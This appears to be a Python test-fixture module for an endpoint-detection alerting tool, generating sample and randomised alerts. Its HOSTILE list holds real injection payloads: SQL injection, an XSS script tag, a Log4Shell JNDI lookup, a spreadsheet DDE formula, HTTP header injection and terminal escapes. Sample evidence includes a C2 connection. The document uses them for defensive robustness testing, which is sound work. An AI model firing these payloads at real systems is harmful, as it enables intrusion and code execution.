"""Alerts for tests: one as it may be, and any that a rule and an attacker could make."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from hypothesis import strategies as st

from fastfold.alerts.types import Alert, AlertTimes, MatchedStep
from fastfold.rules.types import LEVELS
from fastfold.types import COLUMNS, KINDS

SECOND_NS = 1_000_000_000
START_NS = 1_764_000_000 * SECOND_NS

HOSTILE = (
    "\x1b[2J\x1b]0;owned\x07",
    "a\r\nX-Injected: 1\r\n\r\nbody",
    '"},{"id":"forged"}\n{"format":"fastfold.alert/1"}',
    "cod\u202egpj.exe",
    "\u2066\u2028\u2029\x85\x00\x7f\x9b",
    "\ufffd\ufffe\uffff\U000e0041",
    "'; DROP TABLE alerts; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://203.0.113.9/a}",
    "=cmd|' /C calc'!A0",
    " ",
    "",
    "é😀" * 5000,
)
"""Texts that somebody would try."""


def a_step(name: str = "start", second: float = 0.0, **more: Any) -> MatchedStep:
    """A matched step, so many seconds after the first."""
    facts: dict[str, Any] = {
        "name": name,
        "time_ns": START_NS + int(second * SECOND_NS),
        "process": "p-1",
        "kind": "process_start",
        "evidence": (("image", "C:\\Windows\\System32\\cmd.exe"), ("command_line", "cmd.exe /c whoami")),
        "batch": "00112233445566ff",
        "file": "s3://batches/edr/1.gz",
    }
    return MatchedStep(**{**facts, **more})


def an_alert(number: int = 0, **more: Any) -> Alert:
    """An alert; others have another number."""
    connect = (("image", "C:\\Windows\\System32\\cmd.exe"), ("remote", "203.0.113.7:443"), ("domain", "c2.example"))
    facts: dict[str, Any] = {
        "id": f"{number:032x}",
        "rule_id": "office-shell",
        "rule_version": "0123456789abcdef",
        "title": "Office program starts a shell that connects out",
        "description": "A document has started a command processor, which has opened a connection.",
        "level": "high",
        "tags": ("attack.execution", "attack.t1059.003", "attack.t1566"),
        "references": ("https://attack.mitre.org/techniques/T1059/003/",),
        "tenant": "acme",
        "host": "WORKSTATION5",
        "process": "p-1",
        "image": "C:\\Windows\\System32\\cmd.exe",
        "command_line": "cmd.exe /c whoami",
        "user": "ACME\\bob",
        "parent": "p-0",
        "steps": (a_step(), a_step("connect", 2.5, kind="net_connect", evidence=connect)),
        "suppressed": 0,
        "limited": False,
        "times": AlertTimes(
            event_ns=START_NS + 5 * SECOND_NS // 2,
            stored_ns=START_NS + 10 * SECOND_NS,
            received_ns=START_NS + 11 * SECOND_NS,
            committed_ns=START_NS + 12 * SECOND_NS,
        ),
    }
    return Alert(**{**facts, **more})


def hostile_alert(text: str) -> Alert:
    """An alert in which every text that an attacker has a say in is this one."""
    evidence = tuple((column, text) for column in COLUMNS)
    step = a_step(process=text, evidence=evidence, file=f"s3://batches/{text}")
    return an_alert(
        tenant=text, host=text, process=text, image=text, command_line=text, user=text, parent=text, steps=(step, step)
    )


_TEXTS = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=40),
    st.tuples(
        st.sampled_from(["\x1b", "é", "\u202e", "a", '"', "\\", "\ufffe", "\U000e0041"]), st.integers(1, 3000)
    ).map(lambda pair: pair[0] * pair[1]),
)
_TIMES = st.integers(0, 1 << 62)


@st.composite
def steps(draw: st.DrawFn) -> MatchedStep:
    columns = draw(st.lists(st.sampled_from(COLUMNS), unique=True))
    return MatchedStep(
        name=draw(_TEXTS),
        time_ns=draw(_TIMES),
        process=draw(_TEXTS),
        kind=draw(st.sampled_from(KINDS)),
        evidence=tuple((column, draw(_TEXTS)) for column in columns),
        batch=draw(st.sampled_from(["", "00112233445566ff"])),
        file=draw(st.sampled_from(["", "s3://batches/a"])),
    )


@st.composite
def alerts(draw: st.DrawFn) -> Alert:
    """Any alert, however many steps it has and whatever is written in it."""
    matched = draw(st.lists(steps(), min_size=1, max_size=4)) * draw(st.sampled_from([1, 1, 1, 40, 700]))
    texts = {
        name: draw(_TEXTS)
        for name in ("rule_id", "title", "description", "tenant", "host", "process", "image", "command_line", "user")
    }
    alert = an_alert(
        draw(st.integers(0, 1 << 64)),
        level=draw(st.sampled_from(LEVELS)),
        tags=tuple(draw(st.lists(_TEXTS | st.sampled_from(["attack.t1003", "attack.impact"]), max_size=5))),
        references=tuple(draw(st.lists(_TEXTS, max_size=3))),
        steps=tuple(sorted(matched, key=lambda step: step.time_ns)),
        suppressed=draw(st.integers(0, 1 << 40)),
        limited=draw(st.booleans()),
        **texts,
    )
    last_ns = alert.steps[-1].time_ns
    stored_ns, received_ns, committed_ns = draw(st.tuples(_TIMES, _TIMES, _TIMES))
    return replace(alert, times=AlertTimes(last_ns, stored_ns, received_ns, committed_ns))
